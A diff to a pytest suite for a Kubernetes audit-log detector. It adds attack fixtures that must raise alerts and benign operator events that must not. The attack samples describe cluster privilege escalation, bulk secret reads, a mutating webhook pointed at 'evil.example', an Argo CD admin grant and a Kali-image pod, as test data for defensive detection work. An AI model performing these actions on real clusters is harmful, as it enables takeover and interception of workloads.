@@ -36,6 +36,10 @@ def worst(*documents):
     return max((alert.severity for alert in alerts(*documents)), default=Severity.UNKNOWN)
 
 
+def several(document):
+    return document if isinstance(document, list) else [document]
+
+
 def csr(subject: bytes) -> str:
     body = base64.b64encode(b"\x30\x10" + subject)
     return base64.b64encode(
@@ -118,12 +122,19 @@ ATTACKS = [
     ("AU-0909", "external address", audit(resource="services", ns="shop", body={"spec": {"externalIPs": ["8.8.8.8"]}})),
     ("AU-1003", "backups", audit("delete", "backups", ns="velero", name="daily", group="velero.io")),
     ("AU-1004", "network policy", audit("delete", "networkpolicies", ns="shop", name="deny-all")),
+    ("AU-0008", "binding by a service account with kubectl", audit("patch", "clusterrolebindings", user="system:serviceaccount:shop:web")),
+    ("AU-0302", "ten secrets", [audit("get", "secrets", ns="shop", name=f"s{i}") for i in range(10)]),
+    ("AU-0402", "webhook sent elsewhere", audit("patch", "mutatingwebhookconfigurations", name="mesh", body={"webhooks": [{"clientConfig": {"url": "https://evil.example/x"}}]})),
+    ("AU-0408", "Argo CD's access rules", audit("patch", "configmaps", ns="argocd", name="argocd-rbac-cm", body={"data": {"policy.csv": "g, eve, role:admin"}})),
+    ("AU-0408", "front proxy's keys", audit("update", "configmaps", ns="kube-system", name="extension-apiserver-authentication")),
+    ("AU-0812", "attack tools", audit(ns="shop", body=pod(image="kalilinux/kali-rolling"))),
+    ("AU-0207", "node debugger, body not logged", audit(ns="default", name="node-debugger-n1-abcde")),
 ]  # fmt: skip
 
 
 @pytest.mark.parametrize(("analytic", "event"), [pytest.param(a, e, id=f"{a}: {name}") for a, name, e in ATTACKS])
 def test_attacks_alert_at_medium_or_higher(analytic, event):
-    found = [alert for alert in alerts(event) if alert.analytic == analytic]
+    found = [alert for alert in alerts(*several(event)) if alert.analytic == analytic]
     assert found
     assert found[0].severity >= Severity.MEDIUM
     assert found[0].attack
@@ -140,7 +151,7 @@ def test_attacks_alert_at_medium_or_higher(analytic, event):
 def test_a_refused_attempt_is_lower(analytic, event):
     refused = event | {"responseStatus": {"code": 403}}
     ids = {alert.analytic for alert in alerts(refused)}
-    assert analytic not in ids or analytic in ("AU-0610", "AU-0701", "AU-0702")
+    assert analytic not in ids or analytic in ("AU-0605", "AU-0610", "AU-0701", "AU-0702")
     assert worst(refused) <= Severity.MEDIUM
 
 
@@ -200,6 +211,19 @@ BENIGN = [
     ("OpenShift cluster version operator", audit("update", "daemonsets", ns="openshift-multus", user="system:serviceaccount:openshift-cluster-version:default", body=workload(host_path("/", hostNetwork=True), "DaemonSet"))),
     ("deny-all network policy", audit(resource="networkpolicies", ns="shop", body={"spec": {"podSelector": {}, "policyTypes": ["Ingress"]}})),
     ("Velero clears an old backup", audit("delete", "backups", ns="velero", group="velero.io", user="system:serviceaccount:velero:velero")),
+    ("home-made controller keeps a cache of secrets", audit("list", "secrets", name="", user="system:serviceaccount:tools:mirror", agent="manager/v0.0.0 (linux/amd64) kubernetes/$Format", uri="/api/v1/secrets?limit=500&resourceVersion=0")),
+    ("operator writes a role in its namespace", audit(resource="roles", ns="kafka", user="system:serviceaccount:kafka:strimzi-cluster-operator", agent="fabric8-kubernetes-client/6", body={"rules": [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get"]}]})),
+    ("kubeadm sets up CoreDNS", audit(resource="deployments", ns="kube-system", name="coredns", user="kubernetes-admin", agent="kubeadm/v1.34.0", body=workload(pod(image="registry.k8s.io/coredns/coredns:v1.12")))),
+    ("kubeadm writes CoreDNS's configuration", audit(resource="configmaps", ns="kube-system", name="coredns", user="kubernetes-admin", agent="kubeadm/v1.34.0", body={"data": {"Corefile": ".:53 {}"}})),
+    ("kubeadm names its administrators", audit(resource="clusterrolebindings", name="kubeadm:cluster-admins", user="kubernetes-super-admin", agent="kubeadm/v1.34.0", body={"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}, "subjects": [{"kind": "Group", "name": "kubeadm:cluster-admins"}]})),
+    ("kubeadm opens the join information", audit(resource="rolebindings", ns="kube-public", name="kubeadm:bootstrap-signer-clusterinfo", user="kubernetes-admin", agent="kubeadm/v1.34.0", body={"roleRef": {"kind": "Role", "name": "kubeadm:bootstrap-signer-clusterinfo"}, "subjects": [{"kind": "User", "name": "system:anonymous"}]})),
+    ("kubeadm stores its configuration", audit(resource="configmaps", ns="kube-system", name="kubeadm-config", user="kubernetes-admin", agent="kubeadm/v1.34.0")),
+    ("an etcd of one's own", audit(resource="statefulsets", ns="apisix", name="etcd", body=workload(pod(image="docker.io/bitnami/etcd:3")))),
+    ("helm lists its releases", audit("list", "secrets", ns="kube-system", name="", agent="Helm/3.16", uri="/api/v1/namespaces/kube-system/secrets?labelSelector=owner%3Dhelm")),
+    ("Java operator reads its secret", audit("get", "secrets", ns="jenkins", user="system:serviceaccount:jenkins:jenkins", agent="okhttp/4.12")),
+    ("OpenShift labels a namespace", audit("patch", "namespaces", ns="shop", name="shop", user="system:serviceaccount:openshift-infra:podsecurity-admission-label-syncer-controller", body={"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}})),
+    ("job runner clears what it made", [audit("delete", "secrets", ns="runners", name=f"job-{i}", user="system:serviceaccount:runners:gitlab-runner", agent="gitlab-runner/17") for i in range(25)]),
+    ("operator reads the secrets of its instances", [audit("get", "secrets", ns="pg", name=f"db-{i}", user="system:serviceaccount:pg:operator", agent="manager/v1 (linux/amd64) kubernetes/abc") for i in range(12)]),
     ("autoscaler", audit("update", "deployments/scale", ns="shop", user="system:serviceaccount:kube-system:horizontal-pod-autoscaler", body={"spec": {"replicas": 120}})),
 ]  # fmt: skip
 
@@ -208,7 +232,7 @@ BENIGN = [
 def test_ordinary_work_stays_under_medium(event):
     assert [
         f"{a.analytic} {a.severity.label} {a.message} {a.reasons}"
-        for a in alerts(event)
+        for a in alerts(*several(event))
         if a.severity >= Severity.MEDIUM
     ] == []
 
